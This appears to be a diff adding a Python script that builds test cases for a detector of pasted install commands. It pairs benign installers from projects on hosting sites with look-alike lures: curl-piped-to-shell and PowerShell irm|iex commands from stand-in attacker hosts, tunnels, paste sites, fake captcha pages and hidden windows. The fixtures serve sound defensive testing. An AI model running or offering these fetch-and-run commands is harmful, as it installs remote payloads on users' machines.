@@ -1,0 +1,126 @@
+"""Writes tests/data/cases/b5benign.jsonl: installers and texts developers and admins paste, with
+the page they came from, that were warned about or blocked although nothing in them is a lure,
+each beside the look-alike lures that must stay flagged or blocked.
+
+    python tests/data/cases/make_b5benign.py
+
+Deterministic. Project names are made up; lure hosts are reserved names (*.test, *.example) or
+made-up tenants of real hosting suffixes. No text is copied from a blind set, a lure collection
+or another detector's fixtures. Each line is {id, text, expect, technique, platform, source,
+target}.
+
+Principles:
+
+- `tenant-site`: on web hosting where anyone gets a name (pages.dev, netlify.app, vercel.app,
+  web.app, fly.dev, onrender.com...) the Public Suffix List's private section makes each name a
+  site of its own; a project's docs there serving its own install script from that very site
+  are one owner speaking. Look-alikes: another tenant of the same suffix, a stranger's host, a
+  known publisher's name as a tenant, a fake check page, a borrowed company name with bait
+  words, a page about something else, plain HTTP, a lure tail, tunnels and paste sites (no
+  project keeps its site there), the Run box.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from casefile import case  # beside this script, which runs as tests/data/cases/make_*.py
+
+OUT = Path(__file__).with_name("b5benign.jsonl")
+STRANGER = "https://www.harbour-bistro.example/menu/winter"
+BENIGN = "none"
+
+
+def ok(
+    cid: str, text: str, platform: str, source: str | None, target: str = "terminal"
+) -> dict[str, str]:
+    return case(f"b5b-ok-{cid}", text, "not_flagged", BENIGN, platform, source, target)
+
+
+def lure(
+    cid: str, text: str, expect: str, technique: str, platform: str, source: str | None,
+    target: str = "terminal",
+) -> dict[str, str]:  # fmt: skip
+    return case(f"b5b-lure-{cid}", text, expect, technique, platform, source, target)
+
+
+# (page, script) of long-tail projects whose whole site is a tenant of a hosting suffix
+TENANTS = [
+    ("https://tarnctl.netlify.app/docs/getting-started", "https://tarnctl.netlify.app/install.sh"),
+    ("https://wickra.vercel.app/", "https://wickra.vercel.app/install"),
+    ("https://loamdb.pages.dev/docs/install", "https://loamdb.pages.dev/install.sh"),
+    ("https://main.loamdb.pages.dev/quickstart", "https://loamdb.pages.dev/install.sh"),
+    ("https://quay-run.fly.dev/docs", "https://quay-run.fly.dev/install.sh"),
+    ("https://brindle.onrender.com/getting-started", "https://brindle.onrender.com/install.sh"),
+    ("https://sorrel-cli.deno.dev/", "https://sorrel-cli.deno.dev/install.sh"),
+    ("https://kelpie.workers.dev/docs/install", "https://kelpie.workers.dev/install"),
+    ("https://mossy.surge.sh/", "https://mossy.surge.sh/install.sh"),
+    ("https://fenwick-cli.herokuapp.com/docs", "https://fenwick-cli.herokuapp.com/install.sh"),
+    ("https://glimmerkit.firebaseapp.com/install", "https://glimmerkit.firebaseapp.com/install.sh"),
+    ("https://pellet.web.app/", "https://pellet.web.app/install.sh"),
+]
+SHAPES = [
+    ("pipe", "curl -fsSL {} | sh"),
+    ("bash-c", 'bash -c "$(curl -fsSL {})"'),
+    ("saved", "curl -fsSLo install.sh {} && sh install.sh"),
+]
+
+
+def tenant_sites() -> list[dict[str, str]]:
+    out = []
+    for i, (page, script) in enumerate(TENANTS, 1):
+        name, shape = SHAPES[i % len(SHAPES)]
+        out.append(ok(f"tenant-{name}-{i}", shape.format(script), "linux", page))
+    # PowerShell from a tenant site's own docs, into a terminal
+    out += [
+        ok("tenant-ps-1", "irm https://pellet.web.app/install.ps1 | iex", "windows", "https://pellet.web.app/docs/windows"),
+        ok("tenant-ps-2", 'powershell -ExecutionPolicy Bypass -c "irm https://wickra.vercel.app/install.ps1 | iex"', "windows", "https://wickra.vercel.app/docs/install"),
+    ]  # fmt: skip
+    pipe = "curl -fsSL {} | sh"
+    docs = "https://loamdb.pages.dev/docs/install"
+    out += [
+        # another tenant of the same suffix is a stranger, whatever its name
+        lure("tenant-other-1", pipe.format("https://loamdb-cdn.pages.dev/install.sh"), "malicious", "T1105", "linux", docs),
+        lure("tenant-other-2", pipe.format("https://tarnctl.vercel.app/install.sh"), "malicious", "T1105", "linux", "https://tarnctl.netlify.app/docs/getting-started"),
+        lure("tenant-other-3", pipe.format("https://evil-7.pages.dev/install.sh"), "malicious", "T1105", "linux", docs),
+        # a stranger's host, from a tenant site
+        lure("tenant-stranger-1", pipe.format("https://cdn.loamdb-get.test/install.sh"), "flagged", "T1105", "linux", docs),
+        # a tenant site's script from a page about something else
+        lure("tenant-unrelated-1", pipe.format("https://loamdb.pages.dev/install.sh"), "malicious", "T1204.004", "linux", STRANGER),
+        lure("tenant-offtopic-1", pipe.format("https://loamdb.pages.dev/install.sh"), "malicious", "T1204.004", "linux", "https://loamdb.pages.dev/recipes/winter-soup"),
+        # a known publisher's name as a tenant: its home is elsewhere
+        lure("tenant-known-1", pipe.format("https://rustup.pages.dev/install.sh"), "malicious", "T1036", "linux", "https://rustup.pages.dev/"),
+        lure("tenant-known-2", pipe.format("https://ollama.netlify.app/install.sh"), "malicious", "T1036", "linux", "https://ollama.netlify.app/download"),
+        lure("tenant-known-3", pipe.format("https://rustup-install.vercel.app/i.sh"), "malicious", "T1036", "linux", "https://rustup-install.vercel.app/"),
+        # fake check pages and borrowed names with bait words, serving their own script
+        lure("tenant-check-1", pipe.format("https://human-check-42.pages.dev/v.sh"), "malicious", "T1204.004", "macos", "https://human-check-42.pages.dev/"),
+        lure("tenant-check-2", pipe.format("https://quiet-lab.netlify.app/v.sh"), "malicious", "T1204.004", "macos", "https://quiet-lab.netlify.app/captcha/verify"),
+        lure("tenant-bait-1", pipe.format("https://teams-meeting-audio.vercel.app/fix.sh"), "malicious", "T1204.004", "macos", "https://teams-meeting-audio.vercel.app/"),
+        lure("tenant-bait-2", pipe.format("https://chrome-update-fix.web.app/u.sh"), "malicious", "T1204.004", "macos", "https://chrome-update-fix.web.app/"),
+        # the same site, but plain HTTP, or with a lure's tail or a hidden window
+        lure("tenant-http-1", pipe.format("http://loamdb.pages.dev/install.sh"), "malicious", "T1105", "linux", docs),
+        lure("tenant-tail-1", pipe.format("https://loamdb.pages.dev/install.sh") + " # I am not a robot - verification ID 4471", "malicious", "T1204.004", "macos", docs),
+        lure("tenant-hidden-1", 'powershell -w hidden -c "irm https://pellet.web.app/install.ps1 | iex"', "malicious", "T1204.004", "windows", "https://pellet.web.app/"),
+        # tunnels and paste sites are nobody's project site
+        lure("tenant-tunnel-1", pipe.format("https://amber-fox-quiet.trycloudflare.com/i.sh"), "malicious", "T1105", "linux", "https://amber-fox-quiet.trycloudflare.com/docs"),
+        lure("tenant-paste-1", "curl -fsSL https://pastebin.com/raw/Xq7bT2kd | bash", "malicious", "T1105", "linux", "https://pastebin.com/Xq7bT2kd"),
+        # the Run box: no project asks for a paste there; and with no page at all
+        lure("tenant-runbox-1", 'powershell -c "irm https://pellet.web.app/install.ps1 | iex"', "malicious", "T1204.004", "windows", "https://pellet.web.app/", "run_dialog"),
+        lure("tenant-bare-1", pipe.format("https://loamdb.pages.dev/install.sh"), "flagged", "T1105", "linux", None),
+    ]  # fmt: skip
+    return out
+
+
+def build() -> list[dict[str, str]]:
+    cases = [*tenant_sites()]
+    ids = [c["id"] for c in cases]
+    assert len(ids) == len(set(ids)), "case ids must be unique"
+    return cases
+
+
+CASES = build()
+
+if __name__ == "__main__":
+    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py
+
+    write(OUT, CASES)
